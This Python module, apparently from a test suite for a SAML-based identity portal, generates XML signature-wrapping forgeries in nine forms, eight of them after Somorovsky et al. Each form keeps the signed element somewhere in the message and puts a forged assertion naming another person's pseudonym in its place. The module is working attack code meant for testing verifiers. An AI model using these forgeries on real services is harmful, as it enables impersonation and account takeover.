"""Signature wrapping: what the portal signed stays whole somewhere in the message, and a forgery stands in its place.

The eight forms are those of Somorovsky et al., “On Breaking SAML: Be Whoever You Want to Be” (USENIX Security 2012), as
testers number them. In each the signature still refers to the element that was signed; the forged element has an ID of
its own and names another citizen. 1 and 2 wrap a signed Response, the others a signed assertion. 9 is ours: whoever
verifies the first assertion and takes the last is deceived by none of theirs.
"""

from __future__ import annotations

import copy
from collections.abc import Callable, Mapping
from typing import Final

from lxml import etree

from . import names
from .messages import saml, samlp
from .xml import Element

__all__ = ["FORMS_OF_ASSERTION", "FORMS_OF_RESPONSE", "forged_assertion", "wrap"]

_DS = f"{{{names.DSIG}}}"
FORMS_OF_RESPONSE: Final = (1, 2)
FORMS_OF_ASSERTION: Final = (3, 4, 5, 6, 7, 8, 9)


def wrap(message: Element, form: int, other: str) -> Element:
    """The signed message, wrapped; `other` is the pseudonym that the forgery names."""
    message = copy.deepcopy(message)
    _FORMS[form](message, other)
    return message


def forged_assertion(signed: Element, other: str) -> Element:
    """What was signed, without its signature, naming another."""
    return _forge(_without_signature(signed), other)


def _signed_response_in_signature(root: Element, other: str) -> None:
    original = _without_signature(root)
    _signature_of(root).append(original)
    _forge_response(root, other)


def _signed_response_before_signature(root: Element, other: str) -> None:
    original = _without_signature(root)
    _signature_of(root).addprevious(original)
    _forge_response(root, other)


def _forgery_before_assertion(root: Element, other: str) -> None:
    assertion = _assertion_of(root)
    assertion.addprevious(forged_assertion(assertion, other))


def _assertion_in_forgery(root: Element, other: str) -> None:
    assertion = _assertion_of(root)
    forged = forged_assertion(assertion, other)
    root.replace(assertion, forged)
    conditions = forged.find(saml("Conditions"))
    assert conditions is not None
    # Advice is where the schema has room for an assertion inside another.
    advice = etree.Element(saml("Advice"))
    conditions.addnext(advice)
    advice.append(assertion)


def _assertion_after_forgery(root: Element, other: str) -> None:
    forged = _assertion_of(root)
    root.append(_without_signature(forged))
    _forge(forged, other)


def _assertion_in_signature(root: Element, other: str) -> None:
    forged = _assertion_of(root)
    _signature_of(forged).append(_without_signature(forged))
    _forge(forged, other)


def _forgery_in_extensions(root: Element, other: str) -> None:
    status = root.find(samlp("Status"))
    assert status is not None
    extensions = etree.Element(samlp("Extensions"))
    extensions.append(forged_assertion(_assertion_of(root), other))
    status.addprevious(extensions)


def _assertion_in_object(root: Element, other: str) -> None:
    forged = _assertion_of(root)
    original = _without_signature(forged)
    etree.SubElement(_signature_of(forged), f"{_DS}Object").append(original)
    _forge(forged, other)


def _forgery_after_assertion(root: Element, other: str) -> None:
    assertion = _assertion_of(root)
    assertion.addnext(forged_assertion(assertion, other))


_FORMS: Mapping[int, Callable[[Element, str], None]] = {
    1: _signed_response_in_signature,
    2: _signed_response_before_signature,
    3: _forgery_before_assertion,
    4: _assertion_in_forgery,
    5: _assertion_after_forgery,
    6: _assertion_in_signature,
    7: _forgery_in_extensions,
    8: _assertion_in_object,
    9: _forgery_after_assertion,
}


def _assertion_of(root: Element) -> Element:
    found = root.find(saml("Assertion"))
    assert found is not None
    return found


def _signature_of(element: Element) -> Element:
    found = element.find(f"{_DS}Signature")
    assert found is not None
    return found


def _without_signature(element: Element) -> Element:
    """A copy of just what was signed."""
    signed = copy.deepcopy(element)
    signed.remove(_signature_of(signed))
    return signed


def _forge(element: Element, other: str) -> Element:
    """Another's pseudonym, under an ID that no signature refers to."""
    element.set("ID", f"{element.get('ID')}-2")
    name_id = element.find(f"{saml('Subject')}/{saml('NameID')}")
    assert name_id is not None
    name_id.text = other
    return element


def _forge_response(root: Element, other: str) -> None:
    """All of it is vouched for by the signature on the Response, or by nothing."""
    root.set("ID", f"{root.get('ID')}-2")
    assertion = _forge(_assertion_of(root), other)
    assertion.remove(_signature_of(assertion))
